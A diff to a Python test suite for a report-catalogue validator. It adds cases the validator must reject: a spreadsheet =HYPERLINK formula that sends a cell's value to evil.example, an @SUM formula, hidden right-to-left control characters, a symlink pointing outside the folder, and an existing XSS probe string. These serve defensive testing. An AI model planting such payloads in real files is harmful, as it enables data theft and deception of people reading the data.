@@ -97,6 +97,29 @@ def _figures(folder):
     return folder / "figures.csv"
 
 
+def _source(folder):
+    return folder / get_report().source_file
+
+
+def _new_source(folder: Path, content: bytes) -> None:
+    """Replace the source text and record its sha256, as a curator who edited it on purpose would."""
+    import hashlib
+
+    _source(folder).write_bytes(content)
+    _replace(_toml(folder), get_report().source_sha256, hashlib.sha256(content).hexdigest())
+
+
+def _link_out(folder: Path) -> None:
+    """exclusions.csv as a symbolic link to a copy outside the catalogue."""
+    outside = folder.parents[2] / "elsewhere.csv"
+    shutil.copy(folder / "exclusions.csv", outside)
+    (folder / "exclusions.csv").unlink()
+    (folder / "exclusions.csv").symlink_to(outside)
+
+
+HYPERLINK = '=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")'
+
+
 BREAKS = {
     "report.toml: misspelt key": (
         lambda f: _replace(_toml(f), "title_en =", "titel_en ="),
@@ -202,7 +225,67 @@ BREAKS = {
         "figures.csv:3 [gdp_2021h1_actual] indicator='<img src=x onerror=alert(1)>': markup-like text ('<', '>') "
         "is not allowed in free text; allowed: ",
     ),
+    "figures.csv: a formula in indicator": (
+        lambda f: _replace(_figures(f), ",地区生产总值,GDP,", ',"' + HYPERLINK.replace('"', '""') + '",GDP,'),
+        'figures.csv:3 [gdp_2021h1_actual] indicator=\'=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")\': '
+        "starts with '=', which a spreadsheet reads as the start of a formula",
+    ),
+    "figures.csv: a note starting with @SUM(": (
+        lambda f: _replace(
+            _figures(f), 'GDP reached 18.1 billion yuan",\n', 'GDP reached 18.1 billion yuan",@SUM(1+1)\n'
+        ),
+        "figures.csv:3 [gdp_2021h1_actual] note='@SUM(1+1)': starts with '@'",
+    ),
+    "figures.csv: a wrong number in the translation": (
+        lambda f: _replace(_figures(f), "GDP reached 18.1 billion yuan", "GDP reached 28.1 billion yuan"),
+        "figures.csv:3 [gdp_2021h1_actual] quote_en=\"In the first half of the year, the town's GDP reached 28.1 billion "
+        "yuan\": the quote's 181亿 (18,100,000,000) is not in the translation, whose numbers are: 28.1 billion (28,100,000,000)",
+    ),
+    "figures.csv: 45万 translated as 45,000": (
+        lambda f: _replace(_figures(f), "the town's 450,000 people", "the town's 45,000 people"),
+        "figures.csv:2 [population_todate_actual] quote_en=",
+    ),
+    "figures.csv: a right-to-left override": (
+        lambda f: _replace(_figures(f), ",地区生产总值,GDP,", ",地区生产总值,G\u202eDP,"),
+        "figures.csv:3: column 'indicator_en': holds the invisible bidirectional control character U+202E",
+    ),
+    "report.toml: a right-to-left override in a title": (
+        lambda f: _replace(_toml(f), 'title_en = "Government Work Report', 'title_en = "Government \u202eWork Report'),
+        "report.toml:5: holds the invisible bidirectional control character U+202E",
+    ),
+    "source: GB18030, with its sha256": (
+        lambda f: _new_source(f, _source(f).read_text(encoding="utf-8").encode("gb18030")),
+        "is not UTF-8 text (byte 0x",
+    ),
+    "source: a bidirectional isolate, with its sha256": (
+        lambda f: _new_source(f, _source(f).read_text(encoding="utf-8").replace("181", "1\u206681", 1).encode()),
+        "holds the invisible bidirectional control character U+2066",
+    ),
+    "source: too large, with its sha256": (
+        lambda f: _new_source(f, _source(f).read_bytes() * 120),
+        "a source text may be at most 2,097,152 bytes",
+    ),
+    "catalogue: a symbolic link out of the report folder": (
+        _link_out,
+        "exclusions.csv: is a symbolic link to ",
+    ),
 }
+
+
+def test_a_source_that_is_not_utf8_names_the_byte_and_the_encoding_to_convert_from(tmp_path):
+    folder = _catalogue(tmp_path)
+    text = _source(folder).read_text(encoding="utf-8")
+    _new_source(folder, text.encode("gb18030"))
+    first = next(i for i, ch in enumerate(text) if ord(ch) > 127)
+    offset = len(text[:first].encode("gb18030"))
+    results = _probe(tmp_path)
+    line = text[:first].count("\n") + 1
+    for name in ("validate", "load_figures"):
+        assert (
+            f"not UTF-8 text (byte 0x{text[first].encode('gb18030')[0]:02x} at byte offset {offset}, line {line})"
+            in results[name]["stderr"]
+        )
+        assert "It reads as GB18030: convert it with `iconv -f GB18030 -t UTF-8`" in results[name]["stderr"]
 
 
 @pytest.mark.parametrize("case", list(BREAKS))
